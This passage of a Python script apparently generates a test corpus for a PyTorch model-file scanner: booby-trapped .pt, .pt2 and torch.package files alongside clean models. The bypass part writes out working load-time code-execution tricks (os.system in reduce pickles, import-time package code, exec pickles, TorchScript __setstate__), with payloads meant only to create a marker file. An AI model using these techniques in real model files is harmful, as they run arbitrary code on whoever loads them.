           "payload in the magic-number pickle", PS + "GHSA-97f8-7cmv-76j2",
           "the first pickle evaluates to the magic number through eval (and runs the payload)")
    legacy("legacy_protocol_pickle.pt", legacy_stream(obj, protocol=eval_returning("1001")),
           "payload in the protocol-version pickle", "https://github.com/pytorch/pytorch/issues/31875",
           "the second pickle of a legacy stream (torch.load unpickles all five)")
    legacy("legacy_sys_info_pickle.pt",
           legacy_stream(obj, sys_info=reduce_pickle(torch.utils.collect_env.run, (SH,), 2)),
           "payload in the sys_info pickle", "https://github.com/pytorch/pytorch/issues/31875",
           "the third pickle (sys_info) runs collect_env.run; torch.load ignores its value")
    legacy("legacy_storage_keys_pickle.pt", legacy_stream(obj, keys=eval_returning("[]")),
           "payload in the storage-keys pickle", "https://github.com/pytorch/pytorch/issues/31875",
           "the fifth pickle (the storage keys), after the object, evaluates to []")
    # The pre-0.4 tar form: torch.load unpickles the `storages` member first.
    buf = io.BytesIO()
    members = [
        ("sys_info", pickle.dumps(SYS_INFO, 2)),
        ("pickle", pickle.dumps({"weight": None}, 2)),
        ("storages", eval_returning("0") + pickle.dumps([], 2)),
        ("tensors", pickle.dumps(0, 2)),
    ]
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    legacy("legacy_tar_storages.pt", buf.getvalue(), "payload in a legacy tar's storages member",
           "https://github.com/pytorch/pytorch/issues/31875",
           "the tar form of torch.save: the storage count pickle of the `storages` member")


def make_package_tricks():
    def pkg(name, technique, description, sources, pickle_bytes, source=PKG_ISSUE, **kwargs):
        package(name, sources, pickle_bytes, **kwargs)
        resource = kwargs.get("load_resource", ("model", "model.pkl"))
        bypass(name, None, technique, "torch.package", source, package_load(*resource),
               description, "package")

    net = "\n\nclass Net:\n    pass\n"
    pkg("package_module_level_system.pt", "os.system at module level",
        "an interned module calls os.system when the pickle imports it",
        {"evil.model": f"import os\n\nos.system({SH!r})\n" + net},
        instance_of("evil.model", "Net"))
    pkg("package_decorator.pt", "os.system in a decorator",
        "the decorator expression runs at import",
        {"evil.model": "import os\n\n\ndef register(tag):\n    def wrap(cls):\n        return cls\n"
         f"    return wrap\n\n\n@register(os.system({SH!r}))\nclass Net:\n    pass\n"},
        instance_of("evil.model", "Net"))
    pkg("package_default_argument.pt", "os.system in a default argument",
        "default argument values are evaluated when the def runs, at import",
        {"evil.model": f"import os\n\n\ndef forward(x, _=os.system({SH!r})):\n    return x\n" + net},
        instance_of("evil.model", "Net"))
    pkg("package_class_body.pt", "os.system in a class body",
        "a class body runs at import",
        {"evil.model": f"import os\n\n\nclass Net:\n    _ = os.system({SH!r})\n"},
        instance_of("evil.model", "Net"))
    pkg("package_base_list.pt", "os.system in a class's base list",
        "base class expressions run at import",
        {"evil.model": f"import os\n\n\nclass Net(object if os.system({SH!r}) else object):\n"
         "    pass\n"},
        instance_of("evil.model", "Net"))
    pkg("package_fstring.pt", "os.system in an f-string",
        "an f-string replacement field runs at import",
        {"evil.model": f"import os\n\nCMD = {SH!r}\nVERSION = f\"v{{os.system(CMD)}}\"\n" + net},
        instance_of("evil.model", "Net"))
    pkg("package_init_py.pt", "os.system in a package __init__.py",
        "importing evil.layers first runs evil/__init__.py",
        {"evil": f"import os\n\nos.system({SH!r})\n", "evil.layers": net.lstrip()},
        instance_of("evil.layers", "Net"), packages=("evil",))
    pkg("package_dynamic_import.pt", "importlib.import_module('o' + 's') at module level",
        "the module is named by a computed string",
        {"evil.model": "import importlib\n\n"
         f"importlib.import_module(\"o\" + \"s\").system({SH!r})\n" + net},
        instance_of("evil.model", "Net"), extern=("importlib",))
    pkg("package_dunder_import.pt", "__import__ at module level",
        "no import statement names the module",
        {"evil.model": f"__import__(\"o\" \"s\").system({SH!r})\n" + net,
         "evil.util": "import os\n\nHOME = os.environ.get(\"HOME\")\n"},
        instance_of("evil.model", "Net"))
    # reduce_package: the persistent id names an interned function that the
    # importer calls; the module itself does nothing at import.
    reduce_pickle_bytes = (P2 + MARK + u("reduce_package") + u("0") + b"cevil.helpers\nrebuild\n"
                           + b")" + b"tQ.")
    pkg("package_reduce_package.pt", "reduce_package of an interned function",
        "the persistent id ('reduce_package', id, evil.helpers.rebuild, ()) makes the importer "
        "call rebuild(importer), whose body runs os.system",
        {"evil.helpers": f"import os\n\n\ndef rebuild(importer):\n    os.system({SH!r})\n"
         "    return {}\n"},
        reduce_pickle_bytes)
    pkg("package_shadows_collections.pt", "interned collections/__init__.py shadowing the stdlib",
        "the pickle names only collections.OrderedDict, which the importer finds in the "
        "package's own collections module",
        {"collections": f"import os\n\n\nclass OrderedDict(dict):\n    def __init__(self, *args):\n"
         f"        os.system({SH!r})\n        super().__init__(*args)\n"},
        P2 + b"ccollections\nOrderedDict\n)R.", packages=("collections",))
    # CVE-2025-1889: the pickle is a resource whose name does not end in
    # .pkl; protocol 0, with bytes after STOP (pickle.load stops at STOP).
    pkg("package_pickle_named_json.pt", "pickle resource named config.json, trailing bytes",
        "load_pickle takes any resource name; this protocol-0 pickle (INST builtins exec) is "
        "'config.json' and has a newline after STOP",
        {}, b"(V" + PY.encode() + b"\ni__builtin__\nexec\n.\n",
        load_resource=("model", "config.json"), extern=(), source="https://cvetodo.com/cve/CVE-2025-1889")
    # TorchScript inside a package: unpackage_script_module compiles the
    # package's TorchScript, whose __setstate__ creates a file.
    from torch.package import PackageExporter

    path = os.path.join(OUT, "bypass", "package_torchscript_setstate.pt")
    with PackageExporter(path) as exporter:
        exporter.save_pickle("model", "model.pkl", torch.jit.script(SetstateTouch()))
    bypass("package_torchscript_setstate.pt", None, "TorchScript __setstate__ in a package",
           "torch.package", TS_SECURITY, package_load("model", "model.pkl"),
           "a scripted module pickled into a package: loading it runs its TorchScript "
           "__setstate__, which creates a file with torch.from_file", "torchscript")


class SetstateTouch(torch.nn.Module):
    """A module whose TorchScript __setstate__ creates `tpkg-marker` in the
    working directory (torch.from_file with shared=True opens O_CREAT)."""

    def __init__(self):
        super().__init__()
        self.w = torch.nn.Parameter(torch.zeros(1))

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self):
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]):
        touched = torch.from_file("tpkg-marker", shared=True, size=1, dtype=torch.uint8)
        self.w = state[0] + touched.sum() * 0
        self.training = state[1]


class Outer(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.inner = SetstateTouch()
        self.head = torch.nn.Linear(1, 1)

    def forward(self, x):
        return self.head(self.inner(x))


def make_torchscript_tricks():
    def ts(name, module, technique, description, load=JIT_LOAD):
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(module), buf)
        bypass(name, buf.getvalue(), technique, "torchscript", TS_SECURITY, load, description,
               "torchscript")

    torch.manual_seed(0)
    ts("torchscript_setstate_from_file.pt", SetstateTouch(), "TorchScript __setstate__ touching a file",
       "torch.jit.load runs a scripted module's __setstate__; torch.from_file(shared=True) "
       "creates the file")
    ts("torchscript_submodule_setstate.pt", Outer(), "TorchScript __setstate__ in a submodule",
       "the same code in a submodule's __setstate__ (code/__torch__/...)")
    ts("torchscript_via_torch_load.pt", SetstateTouch(), "TorchScript loaded through torch.load",
       "torch.load(weights_only=False) dispatches a TorchScript archive to torch.jit.load",
       load=TORCH_LOAD)


def make_pt2_tricks():
    import torch.utils.collect_env

    def pt2(name, data, technique, description, source=PT2_PR):
        bypass(name, data, technique, "pt2", source, EXPORT_LOAD, description, "pt2")

    payload = R(os.system, (SH,))
    pt2("pt2_sample_inputs.pt2", pt2_with(sample_inputs=torch_save_bytes(((payload,), {}))),
        "malicious sample_inputs torch.save",
        "torch.export.load reads data/sample_inputs/model.pt with torch.load; a "
        "weights_only failure falls back to weights_only=False")
    pt2("pt2_weights_use_pickle.pt2",
        pt2_with(weights=torch_save_bytes(R(torch.utils.collect_env.run, (SH,)))),
        "weights config use_pickle: true",
        "a weight marked use_pickle in model_weights_config.json is torch.load(..., "
        "weights_only=False)")
    pt2("pt2_constants_use_pickle.pt2", pt2_with(constants=torch_save_bytes(payload)),
        "constants config use_pickle: true",
        "a tensor constant marked use_pickle is torch.load(..., weights_only=False)")


# --- the clean corpus -------------------------------------------------------


def clean(name, data, made_by, kind, load):
    if data is not None:
        write(os.path.join(OUT, "clean", name), data)
    CLEAN.append(dict(file=name, kind=kind, made_by=made_by, loader=loader_text(load),
                      load=load, expected="no unsafe finding"))


class MLP(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc1 = torch.nn.Linear(8, 16)
        self.act = torch.nn.ReLU()
        self.fc2 = torch.nn.Linear(16, 4)

    def forward(self, x):
        return self.fc2(self.act(self.fc1(x)))


class ConvNet(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = torch.nn.Conv2d(3, 4, 3, padding=1)
        self.bn = torch.nn.BatchNorm2d(4)
        self.pool = torch.nn.AdaptiveAvgPool2d(1)
        self.fc = torch.nn.Linear(4, 2)

    def forward(self, x):
        x = self.pool(torch.relu(self.bn(self.conv(x))))
        return self.fc(torch.flatten(x, 1))


def sequential():
    return torch.nn.Sequential(
        torch.nn.Linear(4, 8), torch.nn.LayerNorm(8), torch.nn.GELU(), torch.nn.Dropout(0.1),
        torch.nn.Linear(8, 2))


def trained(model, optimizer, steps=2, shape=(4, 8)):
    for _ in range(steps):
        optimizer.zero_grad()
        model(torch.randn(*shape)).sum().backward()
        optimizer.step()
    return model, optimizer


def make_clean():
    import torchvision

    torch.manual_seed(0)
    sd = torch_save_bytes
    mlp = MLP()
    clean("mlp_state_dict.pt", sd(mlp.state_dict()), "torch.save(MLP().state_dict(), f)",
          "state dict", TORCH_LOAD)
    clean("mlp_state_dict_legacy.pt", sd(mlp.state_dict(), _use_new_zipfile_serialization=False),
          "torch.save(state_dict, f, _use_new_zipfile_serialization=False)",
          "state dict (legacy)", TORCH_LOAD)
    mlp, opt = trained(mlp, torch.optim.SGD(mlp.parameters(), lr=0.1, momentum=0.9))
    clean("checkpoint_sgd_momentum.pt",
          sd({"epoch": 3, "model": mlp.state_dict(), "optimizer": opt.state_dict(), "loss": 0.25}),
          "two SGD(momentum=0.9) steps, then torch.save({'epoch', 'model', 'optimizer', 'loss'})",
          "checkpoint", TORCH_LOAD)
    adam_model = MLP()
    adam_model, adam = trained(adam_model, torch.optim.Adam(adam_model.parameters(), lr=1e-3))
    clean("checkpoint_adam.pt",
          sd({"model": adam_model.state_dict(), "optimizer": adam.state_dict(), "step": 2}),
          "two Adam steps, then torch.save of model and optimizer state dicts",
          "checkpoint", TORCH_LOAD)
    adamw_model = ConvNet()
    adamw = torch.optim.AdamW(adamw_model.parameters(), lr=1e-3, weight_decay=0.01)
    scheduler = torch.optim.lr_scheduler.StepLR(adamw, step_size=1, gamma=0.5)
    trained(adamw_model, adamw, shape=(2, 3, 8, 8))
    scheduler.step()
    clean("checkpoint_adamw_scheduler.pt",
          sd({"model": adamw_model.state_dict(), "optimizer": adamw.state_dict(),
              "scheduler": scheduler.state_dict(), "rng": torch.get_rng_state(),
              "config": {"lr": 1e-3, "betas": (0.9, 0.999), "tags": ["a", "b"]}}),
          "AdamW + StepLR on a conv net, with the RNG state and a config dict",
          "checkpoint", TORCH_LOAD)
    clean("checkpoint_adam_legacy.pt",
          sd({"model": adam_model.state_dict(), "optimizer": adam.state_dict()},
             _use_new_zipfile_serialization=False),
          "the Adam checkpoint with _use_new_zipfile_serialization=False",
          "checkpoint (legacy)", TORCH_LOAD)
    seq = sequential()
    clean("whole_sequential.pt", sd(seq), "torch.save(nn.Sequential(Linear, LayerNorm, GELU, "
          "Dropout, Linear), f)", "whole model", TORCH_LOAD)
    clean("whole_sequential_legacy.pt", sd(seq, _use_new_zipfile_serialization=False),
          "the Sequential, legacy format", "whole model (legacy)", TORCH_LOAD)
    clean("whole_lstm.pt", sd(torch.nn.LSTM(4, 8, num_layers=2, batch_first=True)),
          "torch.save(nn.LSTM(4, 8, num_layers=2))", "whole model", TORCH_LOAD)
    clean("whole_transformer_layer.pt",
          sd(torch.nn.TransformerEncoderLayer(d_model=16, nhead=2, dim_feedforward=32)),
          "torch.save(nn.TransformerEncoderLayer(16, 2, 32))", "whole model", TORCH_LOAD)
    shufflenet = torchvision.models.shufflenet_v2_x0_5(num_classes=10)
    shufflenet.eval()
    clean("torchvision_shufflenet_whole.pt", sd(shufflenet),
          "torch.save(torchvision.models.shufflenet_v2_x0_5(num_classes=10))",
          "whole model (torchvision)", TORCH_LOAD)
    clean("torchvision_shufflenet_state_dict.pt", sd(shufflenet.state_dict()),
          "shufflenet_v2_x0_5(num_classes=10).state_dict()", "state dict (torchvision)",
          TORCH_LOAD)
    squeeze_ops = torch.nn.Sequential(
        torchvision.ops.Conv2dNormActivation(3, 8, kernel_size=3),
        torchvision.ops.SqueezeExcitation(8, 4),
        torchvision.ops.misc.FrozenBatchNorm2d(8))
    clean("torchvision_ops_whole.pt", sd(squeeze_ops),
          "torch.save(Sequential(Conv2dNormActivation, SqueezeExcitation, FrozenBatchNorm2d))",
          "whole model (torchvision.ops)", TORCH_LOAD)
    clean("torchvision_transforms.pt",
          sd(torch.nn.Sequential(torchvision.transforms.Resize(8, antialias=True),
                                 torchvision.transforms.Normalize([0.5] * 3, [0.2] * 3))),
          "torch.save(Sequential(transforms.Resize, transforms.Normalize))",
          "whole object (torchvision.transforms)", TORCH_LOAD)
    clean("dtypes.pt",
          sd({str(dtype): torch.arange(4).to(dtype) for dtype in
              (torch.float16, torch.bfloat16, torch.float64, torch.int8, torch.uint8, torch.int16,
               torch.int64, torch.bool, torch.complex64, torch.float8_e4m3fn, torch.uint16)}),
          "torch.save of one tensor per dtype (float16 ... float8_e4m3fn, uint16)",
          "tensors", TORCH_LOAD)
    clean("sparse_and_views.pt",
          sd({"coo": torch.eye(4).to_sparse(), "csr": torch.eye(3).to_sparse_csr(),
              "base": (b := torch.arange(12.0)), "view": b[2:8].view(2, 3),
              "size": torch.Size([2, 3]), "dtype": torch.float32, "device": torch.device("cpu")}),
          "torch.save of sparse COO/CSR tensors, a view sharing storage, torch.Size, dtype, device",
          "tensors", TORCH_LOAD)
    qmodel = torch.ao.quantization.quantize_dynamic(MLP(), {torch.nn.Linear}, dtype=torch.qint8)
    clean("quantized_dynamic_state_dict.pt", sd(qmodel.state_dict()),
          "quantize_dynamic(MLP(), {Linear}, qint8).state_dict()", "state dict (quantized)",
          TORCH_LOAD)
    clean("numpy_in_torch_save.pt",
          sd({"array": np.arange(6, dtype=np.float32).reshape(2, 3), "scalar": np.float64(1.5)}),
          "torch.save of a numpy array and a numpy scalar", "numpy data", TORCH_LOAD)

    # TorchScript
    scripted = torch.jit.script(ConvNet().eval())
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    clean("torchscript_scripted.pt", buf.getvalue(), "torch.jit.save(torch.jit.script(ConvNet()))",
          "TorchScript", JIT_LOAD)
    traced = torch.jit.trace(MLP().eval(), torch.randn(1, 8))
    buf = io.BytesIO()
    torch.jit.save(traced, buf, _extra_files={"meta.json": b'{"note": "traced"}'})
    clean("torchscript_traced.pt", buf.getvalue(),
          "torch.jit.save(torch.jit.trace(MLP(), x), _extra_files={'meta.json': ...})",
          "TorchScript", JIT_LOAD)
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(shufflenet), buf)
    clean("torchscript_torchvision_shufflenet.pt", buf.getvalue(),
          "torch.jit.save(torch.jit.script(shufflenet_v2_x0_5(num_classes=10)))",
          "TorchScript (torchvision)", JIT_LOAD)

    # .pt2
    def export_save(model, args, dynamic_shapes=None):
        ep = torch.export.export(model, args, dynamic_shapes=dynamic_shapes)
        buf = io.BytesIO()
        torch.export.save(ep, buf)
        return buf.getvalue()

    clean("export_mlp.pt2", export_save(MLP().eval(), (torch.randn(2, 8),)),
          "torch.export.save(torch.export.export(MLP(), (x,)))", ".pt2", EXPORT_LOAD)
    batch = torch.export.Dim("batch", min=1, max=64)
    clean("export_convnet_dynamic.pt2",
          export_save(ConvNet().eval(), (torch.randn(2, 3, 8, 8),), {"x": {0: batch}}),
          "torch.export of ConvNet (BatchNorm buffers) with a dynamic batch dimension",
          ".pt2", EXPORT_LOAD)
    clean("export_torchvision_ops.pt2",
          export_save(squeeze_ops.eval(), (torch.randn(1, 3, 8, 8),)),
          "torch.export of the torchvision.ops Sequential", ".pt2 (torchvision)", EXPORT_LOAD)

    # torch.package
    from torch.package import PackageExporter

    def package_clean(name, made_by, fill, load_resource=("model", "model.pkl")):
        path = os.path.join(OUT, "clean", name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with PackageExporter(path) as exporter:
            fill(exporter)
        clean(name, None, made_by, "torch.package", package_load(*load_resource))

    def state_dict_only(exporter):
        exporter.save_pickle("model", "model.pkl", MLP().state_dict())

    package_clean("package_state_dict.pt", "PackageExporter.save_pickle of a state dict",
                  state_dict_only)

    def interned_source(exporter):
        exporter.extern(["torch.**"])
        exporter.save_source_string(
            "tiny.model",
            "import torch\n\n\nclass Tiny(torch.nn.Module):\n    def __init__(self):\n"
            "        super().__init__()\n        self.fc = torch.nn.Linear(4, 2)\n\n"
            "    def forward(self, x):\n        return self.fc(x)\n")
        exporter.save_pickle("model", "weights.pkl", {"fc.weight": torch.zeros(2, 4),
                                                      "fc.bias": torch.zeros(2)})
        exporter.save_binary("model", "model.pkl", pickle.dumps({"class": "tiny.model.Tiny"}, 2))
        exporter.save_text("model", "README.txt", "a tiny interned module\n")

    package_clean("package_interned_source.pt",
                  "save_source_string of a tiny nn.Module, save_pickle of its weights, a text "
                  "resource", interned_source, load_resource=("model", "weights.pkl"))

    def torchvision_interned(exporter):
        exporter.intern(["torchvision.ops.misc", "torchvision.ops._utils"])
        exporter.extern(["torch.**", "torchvision.**", "numpy.**", "PIL.**", "typing_extensions"])
        exporter.save_pickle("model", "model.pkl", squeeze_ops)

    package_clean("package_torchvision_ops.pt",
                  "save_pickle of the torchvision.ops Sequential, interning torchvision.ops.misc "
                  "and torchvision.ops._utils, extern torch/torchvision/numpy/PIL",
                  torchvision_interned)

    def torchvision_model(exporter):
        # _api too: the model module registers itself in _api's registry at
        # import, which must be the package's own, not the host's.
        exporter.intern(["torchvision.models.shufflenetv2", "torchvision.models._api"])
        exporter.extern(["torch.**", "torchvision.**", "numpy.**", "PIL.**", "typing_extensions",
                         "sys"])
        exporter.save_pickle("model", "model.pkl", shufflenet)

    package_clean("package_torchvision_shufflenet.pt",
                  "save_pickle of shufflenet_v2_x0_5(num_classes=10), interning "
                  "torchvision.models.shufflenetv2 and torchvision.models._api",
                  torchvision_model)

    def scripted_in_package(exporter):
        exporter.save_pickle("model", "model.pkl", torch.jit.script(MLP().eval()))

    package_clean("package_torchscript.pt",
                  "save_pickle of a scripted MLP (reduce_package unpackage_script_module)",
                  scripted_in_package)

    def mocked(exporter):
        exporter.intern("tiny.**")
        exporter.mock("scipy.**")
        exporter.extern(["torch.**"])
        exporter.save_source_string("tiny.util", "import torch\n\n\ndef scale(x):\n"
                                    "    return x * 2\n")
        exporter.save_pickle("model", "model.pkl", {"w": torch.ones(3)})

    package_clean("package_mixed_actions.pt",
                  "intern tiny.**, mock scipy.**, extern torch.**; a source module and a pickle",
                  mocked)

    # plain pickles
    arrays = {"x": np.linspace(0, 1, 5), "labels": np.array([1, 0, 1], dtype=np.int64),
              "names": ["a", "b"]}
    clean("numpy_arrays_p2.pkl", pickle.dumps(arrays, protocol=2),
          "pickle.dumps(dict of numpy arrays, protocol=2)", "pickle (numpy)", PICKLE_LOAD)
    clean("numpy_arrays_p5.pkl", pickle.dumps(arrays, protocol=5),
          "pickle.dumps(dict of numpy arrays, protocol=5)", "pickle (numpy)", PICKLE_LOAD)
    tensors = {"t": torch.arange(6.0).reshape(2, 3), "i": torch.tensor([1, 2, 3])}
    clean("tensors_p2.pkl", pickle.dumps(tensors, protocol=2),
          "pickle.dumps(dict of tensors, protocol=2) (storages as _load_from_bytes)",
          "pickle (tensors)", PICKLE_LOAD)
    clean("tensors_p4.pkl", pickle.dumps(tensors, protocol=4),
          "pickle.dumps(dict of tensors, protocol=4)", "pickle (tensors)", PICKLE_LOAD)
    clean("plain_data_p0.pkl", pickle.dumps({"a": [1, 2.5, "x"], "b": (None, True),
                                             "c": {1, 2}, "d": b"\x00\x01"}, protocol=0),
          "pickle.dumps of plain data (dict, list, tuple, set, bytes), protocol=0",
          "pickle (plain data)", PICKLE_LOAD)
    clean("state_dict_pickle.pkl", pickle.dumps(MLP().state_dict(), protocol=2),
          "pickle.dumps(MLP().state_dict(), protocol=2)", "pickle (state dict)", PICKLE_LOAD)


# --- main -------------------------------------------------------------------


def main():
    global OUT
    OUT = os.path.abspath(sys.argv[1])
    for part in ("bypass", "clean"):
        shutil.rmtree(os.path.join(OUT, part), ignore_errors=True)
        os.makedirs(os.path.join(OUT, part))
    # Run from an empty folder: nothing the generator does should leave files
    # (nothing here loads a payload), and if it did, they land there.
    with tempfile.TemporaryDirectory() as scratch:
        here = os.getcwd()
        os.chdir(scratch)
        try:
            make_bypass()
            make_clean()
        finally:
            os.chdir(here)
        leftovers = os.listdir(scratch)
        if leftovers:
            raise SystemExit(f"the generator left files behind: {leftovers}")
    summary = {}
    for part, entries in (("bypass", BYPASS), ("clean", CLEAN)):
        names = [e["file"] for e in entries]
        assert len(names) == len(set(names)), f"duplicate file names in {part}"
        on_disk = sorted(os.listdir(os.path.join(OUT, part)))
        assert on_disk == sorted(names), (part, set(on_disk) ^ set(names))
        sizes = {}
        for entry in entries:
            size = os.path.getsize(os.path.join(OUT, part, entry["file"]))
            entry["bytes"] = size
            sizes[entry["file"]] = size
        manifest = {
            "generated_by": "tests/oracle/make_scanner_corpus.py (cargo xtask scanner-corpus)",
            "torch": torch.__version__.split("+")[0],
            "python": "%d.%d" % sys.version_info[:2],
            "files": entries,
        }
        if part == "bypass":
            manifest["marker"] = {
                "env": "TPKG_MARKER",
                "relative": REL,
                "note": "each load runs in a fresh folder with TPKG_MARKER=<folder>/tpkg-marker; "
                        "payloads create that file and do nothing else",
            }
        with open(os.path.join(OUT, part, "manifest.json"), "w") as f:
            json.dump(manifest, f, indent=1, sort_keys=True)
            f.write("\n")
        summary[part] = sizes
    print(json.dumps(summary))


if __name__ == "__main__":
    main()
